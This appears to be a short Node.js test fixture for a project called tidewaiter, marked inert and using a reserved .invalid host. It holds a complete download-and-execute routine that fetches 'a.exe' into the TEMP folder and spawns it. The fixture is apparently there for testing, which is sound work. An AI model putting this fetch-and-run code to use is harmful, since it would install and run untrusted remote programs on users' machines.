// Inert fixture of tidewaiter's tests: never run. Hosts are reserved names or this machine.
const axios=require('axios');const fs=require('fs');const {spawn}=require('child_process');
async function get(url,dest){const writer=fs.createWriteStream(dest);const response=await axios({url,method:'GET',responseType:'stream'});response.data.pipe(writer);return new Promise((resolve,reject)=>{writer.on('finish',resolve);writer.on('error',reject);});}
get('https://files.invalid/a.exe',process.env.TEMP+'\\a.exe').then(()=>spawn(process.env.TEMP+'\\a.exe'));
